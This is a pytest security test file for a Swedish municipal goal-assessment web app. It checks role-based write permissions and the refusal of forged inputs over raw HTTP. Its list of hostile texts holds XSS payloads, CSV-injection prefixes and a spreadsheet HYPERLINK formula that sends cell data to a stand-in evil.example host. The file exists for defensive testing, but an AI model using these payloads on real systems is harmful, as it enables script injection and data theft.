"""The in-app writes attacked over raw HTTP as a hostile signed-in user would (issues 12–14):
every write callback called by every role, with forged ids, periods, versions, values and
texts, on SQLite and PostgreSQL. Each refusal is Swedish, nothing is stored (the tables are
compared before and after), never a 5xx, a traceback or the catch-all "Något gick fel"."""

from __future__ import annotations

import pytest

from ils.agenda import KINDS
from tests.attack_support import (
    ADA,
    CTX,
    LONG,
    NORA,
    ROLES,
    SIV,
    SOFIA,
    answer,
    call,
    clean,
    client_as,
    dump,
    fresh_city,
    note_key,
    save_assessment,
    save_note,
)


@pytest.fixture
def city(db_url, monkeypatch):
    return fresh_city(db_url, monkeypatch)


def _refused(got, *words: str) -> None:
    assert got.status == 200 and clean(got), got.text[:300]
    for word in words:
        assert word in got.said, (word, got.said[:300])


# --- every role against every write --------------------------------------------------------

WRITES = {  # name → (the call, the roles whose call is stored)
    "assess-save": (lambda c, _: save_assessment(c), {"namnd"}),
    "note-save": (lambda c, role: save_note(c, key=note_key(kind=KINDS[list(ROLES).index(
        role)])), {"slk", "admin"}),  # an item of each role's own: no conflicts
    "to-draft": (lambda c, _: call(c, "kr-assess-to-draft", state={
        "kr-assess-ctx": {**CTX, "period": "VB"}, "kr-assess-reason": "Rättelse"}), {"admin"}),
    "lock": (lambda c, _: call(c, "admin-confirm", state={
        "admin-pending": {"year": 2022, "period": "VB", "action": "lock"},
        "admin-done": {"n": 0}}), {"admin"}),
}


@pytest.mark.parametrize("write", sorted(WRITES))
def test_each_write_is_stored_for_its_roles_only(city, write):
    do, allowed = WRITES[write]
    for role, viewer in ROLES.items():
        before = dump()
        got = do(client_as(viewer), role)
        assert got.status == 200 and clean(got), (role, got.text[:300])
        assert (dump() != before) == (role in allowed), (write, role, got.said[:200])


def test_answers_and_publishing_are_the_boards_own(city):
    save_note(client_as(SIV))  # a question to Norrby
    save_assessment(client_as(NORA))
    for role, viewer in ROLES.items():
        if role == "namnd":
            continue
        before = dump()
        for got in (answer(client_as(viewer)),
                    call(client_as(viewer), "kr-assess-publish-now",
                         state={"kr-assess-ctx": CTX})):
            _refused(got)
            assert "Sparat" not in got.said and "Publicerat" not in got.said
            if role in ("publik", "lasare", "annan-namnd"):  # Norrby is drafting T2
                assert "Varför grönt?" not in got.text and LONG not in got.text, role
        assert dump() == before, role
    assert "Svaret är sparat" in answer(client_as(NORA)).said
    assert "Publicerat: 1 mål" in call(client_as(NORA), "kr-assess-publish-now", state={
        "kr-assess-ctx": CTX, "kr-assess-publish-versions": {"vom11": 1}}).said


def test_the_publish_summary_is_the_boards_own(city):
    save_assessment(client_as(NORA), text="HEMLIG-MOTIVERING " * 5)
    for role, viewer in ROLES.items():
        got = call(client_as(viewer), "kr-assess-publish", state={"kr-assess-ctx": CTX})
        assert clean(got)
        assert ("Det här blir publikt" in got.said) == (role == "namnd"), role


# --- forged inputs --------------------------------------------------------------------------

FORGED_ASSESSMENTS = [
    ({"ctx": {**CTX, "org": "soderby"}}, "Du får inte bedöma mål för Söderby"),
    ({"ctx": {**CTX, "org": "stad"}}, "Du får inte bedöma mål för Exempelstad"),
    ({"ctx": {**CTX, "org": "x" * 5000}}, "Du får inte bedöma"),
    ({"ctx": {**CTX, "org": ["norrby"]}}, "Du får inte bedöma"),
    ({"ctx": {**CTX, "org": "norr\x00by"}}, "Du får inte bedöma"),
    ({"goal": "nm-norr"}, "inget verksamhetsområdesmål"),
    ({"goal": "im1"}, "inget verksamhetsområdesmål"),
    ({"goal": "vom\x0011"}, "Okänt mål"),
    ({"goal": "x" * 5000}, "Okänt mål"),
    ({"ctx": {**CTX, "year": 2023}}, "inget verksamhetsområdesmål för 2023"),
    ({"ctx": {**CTX, "year": 2021, "period": "T1"}}, "inga utfall eller prognoser för T1 2021"),
    ({"ctx": {**CTX, "year": "2022"}}, "Ogiltigt år"),
    ({"ctx": {**CTX, "year": 10**30}}, "Ogiltigt år"),
    ({"ctx": {**CTX, "period": "T4" * 2000}}, "Okänd period"),
    ({"version": -1}, "Ogiltig version"),
    ({"version": "0"}, "Ogiltig version"),
    ({"version": None}, "Ogiltig version"),
    ({"version": 1.5}, "Ogiltig version"),
    ({"version": 7}, "finns inte längre"),
    ({"version": 2**70}, "finns inte längre"),
    ({"value": "jättebra"}, "Välj en bedömning"),
    ({"value": None}, "Välj en bedömning"),
    ({"basis": "magkänsla"}, "Välj vad bedömningen grundar sig på"),
    ({"also": ["allt"]}, "Okänt val"),
    ({"also": "aktiviteter"}, "Okänt val"),
    ({"text": "x" * 4001}, "Motiveringen är för lång (4001 tecken, högst 4000)"),
    ({"text": "x" * 19_000}, "Motiveringen är för lång"),
    ({"text": "Bra\x00" * 20}, "otillåtet tecken (NUL)"),
    ({"text": "kort"}, "motivera med minst 40 tecken"),
]


@pytest.mark.parametrize(("forged", "said"), FORGED_ASSESSMENTS,
                         ids=[f"{i}-{next(iter(f))}" for i, (f, _) in
                              enumerate(FORGED_ASSESSMENTS)])
def test_forged_assessment_saves_are_refused(city, forged, said):
    before = dump()
    got = save_assessment(client_as(NORA), **forged)  # no row yet: only version 0 is fresh
    _refused(got, said)
    assert "Sparat" not in got.said
    assert dump() == before


def test_a_long_motivation_reaches_the_form_and_is_saved(city):
    """A motivation of 600 characters (the form allows 4,000) was refused with HTTP 400 by
    the callback body check (a `value` of at most 500 characters): the save silently did
    nothing in the browser."""
    text = "Vi bedömer målet som uppfyllt eftersom " + "å" * 3900
    got = save_assessment(client_as(NORA), text=text)
    assert got.status == 200 and "Sparat som utkast (version 1)" in got.said
    rows = dump()["assessment"]
    assert any(text in row for row in rows), [r[:200] for r in rows if "Vi bed" in r]
    note = "Anteckning " + "n" * 3000
    got = save_note(client_as(SIV), note=note)
    assert got.status == 200 and "Sparat (version 1)" in got.said
    got = answer(client_as(NORA), text="Svar " + "s" * 3000)
    assert got.status == 200 and "Svaret är sparat" in got.said


TEXTS = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "=HYPERLINK(\"http://evil"
         ".example/?d=\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1)", "\u202eevil\u202c", "\ufeff",
         "e\u0301" * 30, "😀" * 50, "\r\n\t" + "x" * 40, "Ω" * 4000]


@pytest.mark.parametrize("text", TEXTS, ids=range(len(TEXTS)))
def test_hostile_texts_are_stored_as_given_and_sent_back_as_text(city, text):
    motivation = text if len(text.strip()) >= 40 else text + " " + LONG
    got = save_assessment(client_as(NORA), text=motivation)
    assert got.status == 200 and "Sparat som utkast" in got.said, got.said[:200]
    assert '"dangerously_allow_html"' not in got.text and "DangerouslySetInnerHTML" not in got.text
    got = save_note(client_as(SIV), note=text, question=text)
    assert got.status == 200 and "Sparat" in got.said
    from queries.db import get_engine
    from queries.read.assessment_reads import current
    from queries.scope import acting_as

    with acting_as(NORA):
        stored = current(get_engine(), "norrby", 2022, "T2")["motivation"].to_list()
    assert stored == [motivation]


FORGED_KEYS = [
    (note_key(org="norr\x00by"), "Punkten finns inte"),
    (note_key(goal="vom\x0011"), "Punkten finns inte"),
    (note_key(ind="ind-las\x00"), "Punkten finns inte"),
    (note_key(kind="<script>"), "Punkten finns inte"),
    (note_key(year="2022"), "Punkten finns inte"),
    ("x" * 700, "Punkten finns inte"),
    ("[1, 2]", "Punkten finns inte"),
    (note_key(goal="im1", org="stad"), "inget verksamhetsområdesmål"),
    (note_key(goal="nm-norr"), "inget verksamhetsområdesmål"),
    (note_key(ind="finns-ej"), "Indikatorn 'finns-ej' finns inte"),
    (note_key(org="ingen"), "Organisationen 'ingen' finns inte"),
    (note_key(year=2021, period="T1"), "inga utfall eller prognoser för T1 2021"),
]


@pytest.mark.parametrize(("key", "said"), FORGED_KEYS, ids=range(len(FORGED_KEYS)))
def test_notes_on_forged_items_are_refused(city, key, said):
    before = dump()
    got = save_note(client_as(SIV), key=key)
    _refused(got, said)
    assert dump() == before
    got = answer(client_as(NORA), key=key)
    assert clean(got) and "Svaret är sparat" not in got.said
    assert dump() == before


@pytest.mark.parametrize(("forged", "said"), [
    ({"state": "stängd"}, "Välj ett läge"), ({"state": None}, "Välj ett läge"),
    ({"version": -1}, "Ogiltig version"), ({"version": "0"}, "Ogiltig version"),
    ({"version": 3}, "finns inte längre"), ({"note": "a\x00b"}, "otillåtet tecken (NUL)"),
    ({"question": "q" * 4001}, "Frågan är för lång"),
])
def test_forged_notes_are_refused(city, forged, said):
    before = dump()
    _refused(save_note(client_as(SIV), **forged), said)
    assert dump() == before


def test_forged_returns_to_draft_are_refused(city):
    ada = client_as(ADA)
    before = dump()
    for ctx, said in (({**CTX, "org": ["norrby"]}, "finns inte"),
                      ({**CTX, "org": {"a": 1}}, "finns inte"),
                      ({**CTX, "period": "VB", "org": "ingen"}, "finns inte"),
                      ({**CTX, "period": "T2"}, "har inga publicerade bedömningar"),
                      ({**CTX, "period": "VB", "year": "2022"}, "Ogiltigt år")):
        _refused(call(ada, "kr-assess-to-draft", state={"kr-assess-ctx": ctx,
                                                        "kr-assess-reason": "Fel"}), said)
    for reason, said in (("", "Ange varför"), ("x" * 1001, "för långt"), (None, "Ange varför")):
        _refused(call(ada, "kr-assess-to-draft", state={
            "kr-assess-ctx": {**CTX, "period": "VB"}, "kr-assess-reason": reason}), said)
    assert dump() == before


def test_every_write_to_a_locked_period_is_refused_naming_the_lock(city):
    save_note(client_as(SIV))  # a question to answer, before the lock
    save_assessment(client_as(NORA))
    got = call(client_as(ADA), "admin-confirm", state={
        "admin-pending": {"year": 2022, "period": "T2", "action": "lock"},
        "admin-done": {"n": 0}})
    assert "Låste T2 2022" in got.text
    before = dump()
    for got in (save_assessment(client_as(NORA), version=1, value="ej"),
                save_assessment(client_as(NORA), goal="vom12"),
                call(client_as(NORA), "kr-assess-publish-now", state={"kr-assess-ctx": CTX}),
                save_note(client_as(SIV), version=1, note="Ny"),
                answer(client_as(NORA)),
                call(client_as(ADA), "kr-assess-to-draft", state={
                    "kr-assess-ctx": CTX, "kr-assess-reason": "Fel"})):
        _refused(got, "låst", "Ada Admin")
    assert dump() == before


def test_a_board_cannot_write_for_another_board_by_forging_the_key(city):
    save_note(client_as(SIV), key=note_key(org="soderby"))
    before = dump()
    got = answer(client_as(NORA), key=note_key(org="soderby"))
    _refused(got, "Bara Söderby stadsdelsnämnds egna användare")
    got = answer(client_as(SOFIA), key=note_key(org="norrby"))
    _refused(got)
    assert dump() == before


def test_a_future_period_is_refused_even_where_the_goal_runs_on(db_url, monkeypatch):
    """Goals decided to 2030: a forged form for VB 2026 (no data yet) is refused and stores
    nothing — for an assessment and for a note."""
    import polars as pl

    from ils.model import Dataset
    from tests.fixture_city import city as base

    ds = base()
    fresh_city(db_url, monkeypatch, Dataset(**{**ds.frames(), "goals": ds.goals.with_columns(
        year_to=pl.lit(2030, dtype=pl.Int64))}))
    before = dump()
    _refused(save_assessment(client_as(NORA), ctx={**CTX, "year": 2026, "period": "VB"}),
             "inga utfall eller prognoser för VB 2026")
    _refused(save_note(client_as(SIV), key=note_key(year=2026, period="VB")),
             "inga utfall eller prognoser för VB 2026")
    assert dump() == before
    assert "Sparat" in save_assessment(client_as(NORA)).said  # T2 2022 has data
